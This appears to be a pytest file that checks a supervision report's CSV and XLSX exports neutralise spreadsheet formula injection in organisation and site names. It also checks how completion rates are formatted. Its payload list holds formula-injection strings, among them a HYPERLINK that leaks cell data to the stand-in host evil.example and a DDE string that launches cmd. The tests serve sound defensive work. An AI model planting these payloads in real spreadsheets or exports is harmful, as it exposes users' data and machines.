"""The report's CSV and XLSX never turn a name into a live spreadsheet formula."""
from __future__ import annotations

import csv
import io

import pytest
from openpyxl import load_workbook

from tests.report.conftest import bj, login

#: names that a spreadsheet would run as formulas
PAYLOADS = ['=HYPERLINK("http://evil.example/?"&A1,"详情")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1,2)",
            "\t=1+1", "\r=1+1"]


@pytest.fixture()
def hostile(tree, session):
    """One organiser and one site per payload under 广州, each with a case; the province named so too."""
    names = []
    for number, payload in enumerate(PAYLOADS):
        org = tree.factory.org(f"EVIL{number:02d}", parent=tree.gz, name="x")
        site = tree.factory.site(f"44019{number:05d}", organiser=org, supervisor=tree.gz,
                                 host=f"evil{number}.example.gov.cn", name="x")
        # tab and carriage return are stripped when an organisation is created: stored as imported data may be
        org.name = site.name = payload
        tree.submit(bj(4, 8 + number), site=site)
        names.append(payload)
    tree.gz.name = "=1+1"
    session.commit()
    return names


def _export(client, tree, fmt: str, by: str) -> bytes:
    login(client, tree.supervisor_user)
    response = client.get(f"/supervise/report/export.{fmt}", query_string={
        "from": "2024-04-01", "to": "2024-06-30", "scope": "440100", "by": by,
        "as_of": bj(7, 1).isoformat()})
    assert response.status_code == 200
    return response.data


@pytest.mark.parametrize("by", ["org", "site"])
def test_csv_prefixes_formula_starts_with_a_quote(client, tree, hostile, by):
    table = list(csv.reader(io.StringIO(_export(client, tree, "csv", by).decode("utf-8-sig"), newline="")))
    names = [row[1] for row in table[1:-1]]
    assert sorted(names) == sorted("'" + name for name in hostile)
    assert table[-1][1] == "合计"


@pytest.mark.parametrize("by", ["org", "site"])
def test_xlsx_stores_names_as_text(client, tree, hostile, by):
    workbook = load_workbook(io.BytesIO(_export(client, tree, "xlsx", by)))
    sheet = workbook["按期办结情况"]
    cells = [row[1] for row in sheet.iter_rows(min_row=3, max_row=sheet.max_row - 1)]  # below title and headings
    # XML reads a carriage return back as a line feed
    assert sorted(cell.value for cell in cells) == sorted(name.replace("\r", "\n") for name in hostile)
    assert {cell.data_type for cell in cells} == {"s"}
    scope = workbook["说明"]["B3"]
    assert scope.value == "=1+1（440100）" and scope.data_type == "s"
    formulas = [cell.coordinate for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row
                if cell.data_type == "f"]
    assert formulas == []


def test_csv_rates_are_numbers_with_the_unit_in_the_heading(client, tree, session):
    late = tree.submit(bj(4, 8), site=tree.gz_site)  # due 04-11 24:00
    tree.answer(late, bj(4, 15, 10), bj(4, 15, 11))
    on_time = tree.submit(bj(4, 8), site=tree.sz_site)
    tree.answer(on_time, bj(4, 9, 10), bj(4, 9, 11))
    tree.submit(bj(6, 28), site=tree.sz_site)  # not yet due on 07-01 09:00 (due 07-03 24:00)
    session.commit()
    login(client, tree.supervisor_user)
    body = client.get("/supervise/report/export.csv", query_string={
        "from": "2024-04-01", "to": "2024-06-30", "scope": "440000", "as_of": bj(7, 1).isoformat()}).data
    table = list(csv.reader(io.StringIO(body.decode("utf-8-sig"), newline="")))
    heading = table[0]
    assert heading[heading.index("办结率(%)") + 1] == "按期办结率(%)"
    rows = {row[0]: dict(zip(heading, row, strict=True)) for row in table[1:]}
    assert (rows["440100"]["办结率(%)"], rows["440100"]["按期办结率(%)"]) == ("100", "0.0")
    assert (rows["440300"]["办结率(%)"], rows["440300"]["按期办结率(%)"]) == ("50.0", "100")
    assert (rows[""]["办结率(%)"], rows[""]["按期办结率(%)"]) == ("66.7", "50.0")
    assert all("%" not in value for row in table[1:] for value in row)
    assert float(rows[""]["办结率(%)"]) == 66.7
